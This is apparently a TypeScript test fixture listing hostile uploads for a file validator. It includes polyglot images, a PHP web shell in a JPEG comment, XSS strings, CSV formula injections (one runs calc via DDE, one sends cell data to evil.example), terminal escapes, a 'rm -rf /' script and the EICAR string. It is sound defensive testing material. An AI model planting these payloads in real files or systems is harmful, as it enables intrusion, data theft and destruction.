import { jpeg, png, pngChunk, pngHeader, webp, webpChunk } from './picture-bytes.js';
import { file, type TriedFile } from './tried-file.js';
import { zip } from './zip-bytes.js';

const page = '<html><script>alert(1)</script></html>';
const archive = zip([{ name: 'a.class', content: 'a' }]);
/** Harmless, and found by every antivirus. Put together here, so that this file is not found itself. */
const found = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

export const hostilePictures: readonly TriedFile[] = [
  file('a picture before a page', 'a.png', Buffer.concat([png(), Buffer.from(page)])),
  file('a picture that is an archive as well', 'a.png', Buffer.concat([png(), archive])),
  file('a picture with a page in its words', 'a.png', png([pngChunk('tEXt', `Comment\0${page}`)])),
  file('a picture with a chunk that nobody knows', 'a.png', png([pngChunk('eViL', 'payload')])),
  file('a picture that fills the memory', 'a.png', png([], pngHeader(0x7fffffff, 0x7fffffff))),
  file('a picture whose sums are wrong', 'a.png', Buffer.concat([png().subarray(0, -6), Buffer.alloc(6)])),
  file('a photograph before a program', 'a.jpg', jpeg({ after: Buffer.from('MZ program') })),
  file('a photograph that is an archive as well', 'a.jpg', jpeg({ after: archive })),
  file('a photograph with a page in its words', 'a.jpg', jpeg({ comment: '<?php system($_GET[0]); ?>' })),
  file('a photograph that is cut', 'a.jpg', jpeg().subarray(0, 60)),
  file('a photograph of three bytes', 'a.jpg', Buffer.from([0xff, 0xd8, 0xff])),
  file('a picture of the web before a page', 'a.webp', Buffer.concat([webp(), Buffer.from(page)])),
  file(
    'a picture of the web with a page in its words',
    'a.webp',
    webp([webpChunk('VP8L', 'abcd'), webpChunk('XMP ', page)]),
  ),
  file(
    'a picture of the web with a part that nobody knows',
    'a.webp',
    webp([webpChunk('VP8L', 'abcd'), webpChunk('EVIL', 'a')]),
  ),
  file(
    'sound under the name of a picture of the web',
    'a.webp',
    Buffer.from('RIFF\x24\0\0\0WAVEfmt aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 'latin1'),
  ),
];

export const hostileTexts: readonly TriedFile[] = [
  file('a page under the name of a text', 'a.txt', page),
  file('a page under the name of a table', 'a.csv', `nom;total\n<img src=x onerror=alert(1)>;1\n`),
  file('a picture that is a page under the name of a text', 'a.txt', '<svg onload="alert(1)">'),
  file('XML under the name of a text', 'a.txt', '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"/>'),
  file('a page in seven bits', 'a.txt', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  file('a page in wide letters', 'a.txt', Buffer.from(`\uFEFF${page}`, 'utf16le')),
  file('a page in wide letters that does not say so', 'a.csv', Buffer.from(page, 'utf16le')),
  file('a text with a zero byte', 'a.txt', 'a\0<b>'),
  file('a text that orders a terminal', 'a.txt', 'log \u001B]0;evil\u0007 \u001B[2J'),
  file('a text turned from right to left', 'a.txt', 'virement \u202E000 001'),
  file('a table that calls another program', 'a.csv', `nom;total\n"=cmd|' /C calc'!A0";1\n`),
  file('a table that sends what it holds', 'a.csv', '=HYPERLINK("http://evil.example?"&A1,"voir")\n'),
  file('a table that fetches', 'a.csv', '@WEBSERVICE("http://evil.example")\n'),
  file('a letter with a page', 'a.txt', 'MIME-Version: 1.0\nContent-Type: text/html\n\nx'),
  file('a shortcut', 'a.txt', '[InternetShortcut]\nURL=file://evil.example/a'),
  file('a script of the shell', 'a.txt', '#!/bin/sh\nrm -rf /\n'),
  file('rich text under the name of a text', 'a.txt', '{\\rtf1 {\\object}}'),
  file('what the antivirus finds', 'a.txt', found),
  file('what the antivirus finds, in a table', 'a.csv', `${found}\n`),
];
